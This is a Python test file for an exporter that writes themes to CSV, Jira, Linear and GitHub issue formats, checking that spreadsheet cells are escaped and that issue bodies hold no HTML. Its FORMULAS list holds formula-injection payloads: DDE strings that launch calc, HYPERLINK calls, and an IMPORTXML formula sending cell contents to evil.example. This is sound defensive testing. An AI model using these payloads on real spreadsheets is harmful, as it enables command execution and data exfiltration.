"""Exports of themes: what other tools read, and that a spreadsheet runs nothing."""

import csv
import io
import json

import pytest
from browser_server import HOSTILE
from making_gaps import NOON, quoted, theme_list, view, weeks
from markdown_it import MarkdownIt

from assistant.gaps.export import export, guarded, unguarded
from assistant.gaps.impact import Spread

SIGNS = "= + - @ \t \r \n ＝ ＋ － ＠".split(" ")
FORMULAS = (
    *(f"{sign}cmd|' /C calc'!A0" for sign in SIGNS),
    *(f"{sign}HYPERLINK(\"https://evil.example\",\"x\")" for sign in SIGNS),
    *(f" {sign}1+1" for sign in SIGNS),
    *(f"'{sign}1" for sign in SIGNS),
    "=1+1\r\n=2+2", '"=1+1"', "=IMPORTXML(CONCAT(\"//evil.example/\",A1),\"//a\")", "@SUM(1+9)*cmd|' /C calc'!A0",
    "+49 30 1234", "-1", "--help", "=", "'", "''", "a,b", 'he said "no"', "two\nlines", "line\rreturn", " leading",
    "trailing ", "ünïcödé ✓", "\ufeff=1+1", ";=1+1", "plain",
)  # fmt: skip


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_there_are_at_least_sixty_payloads():
    assert len(set(FORMULAS)) >= 60


@pytest.mark.parametrize("payload", FORMULAS)
def test_no_cell_begins_like_a_formula_and_nothing_is_lost(payload: str):
    evil = view(payload, quotes=(quoted(payload),), cost=None)
    for format_ in ("csv", "jira", "linear"):
        head, *found = rows(export(theme_list(evil), format_).text)
        assert len(found) == 1
        assert len(found[0]) == len(head)
        for cell in found[0]:
            assert not cell.lstrip(" ").startswith(tuple(SIGNS))
    head, found = rows(export(theme_list(evil), "csv").text)
    table = dict(zip(head, found, strict=True))
    assert unguarded(table["name"]) == payload
    assert unguarded(table["quote_1"]) == payload
    assert unguarded(guarded(payload)) == payload


def test_the_table_holds_what_a_person_needs_to_recompute_the_cost():
    head, first = rows(export(theme_list(view(weeks=weeks(5, 9))), "csv").text)
    table = dict(zip(head, first, strict=True))
    assert (table["contacts"], table["cost_low"], table["cost_typical"], table["cost_high"]) == (
        "41", "120.00", "215.20", "410.90",
    )  # fmt: skip
    assert (table["cause"], table["cause_probability"], table["this_week"], table["expected_high"]) == (
        "design", "0.62", "9", "12",
    )  # fmt: skip


def test_github_takes_each_entry_as_the_body_of_its_issue_import():
    found = json.loads(export(theme_list(view(), view("b", "T2", rank=2)), "github").text)
    assert [set(entry) for entry in found] == [{"issue", "comments"}] * 2
    assert found[0]["issue"]["created_at"] == NOON.strftime("%Y-%m-%dT%H:%M:%SZ")
    assert found[0]["issue"]["labels"] == ["waypost", "cause-design", "stage-set-up"]
    assert found[0]["issue"]["closed"] is False
    assert "“It says the login to the server failed.”" in found[0]["issue"]["body"]


def test_jira_and_linear_get_their_own_words_for_kind_priority_and_status():
    spiking = view("new toolbar", "T3", weeks=weeks(1, 2, 40), cost=Spread(1, 2, 3))
    head, row = rows(export(theme_list(spiking), "jira").text)
    assert head[:4] == ["Summary", "Issue Type", "Status", "Priority"]
    assert row[:4] == ["new toolbar", "Task", "To Do", "Highest"]
    assert all(" " not in cell for name, cell in zip(head, row, strict=True) if name == "Labels")
    head, row = rows(export(theme_list(spiking), "linear").text)
    table = dict(zip(head, row, strict=True))
    assert (table["Title"], table["Priority"], table["Status"]) == ("new toolbar", "Urgent", "Backlog")
    assert table["Labels"].split(", ") == ["waypost", "cause-design", "stage-set-up"]


@pytest.mark.parametrize("payload", HOSTILE[:12])
def test_descriptions_hold_no_markup_of_strangers(payload: str):
    body = json.loads(export(theme_list(view(payload, quotes=(quoted(payload),))), "github").text)[0]["issue"]["body"]
    html = MarkdownIt("commonmark", {"html": True}).render(body)
    assert not {"<script", "<img", "<a ", "<iframe", "<svg"} & {
        tag for tag in ("<script", "<img", "<a ", "<iframe", "<svg") if tag in html
    }
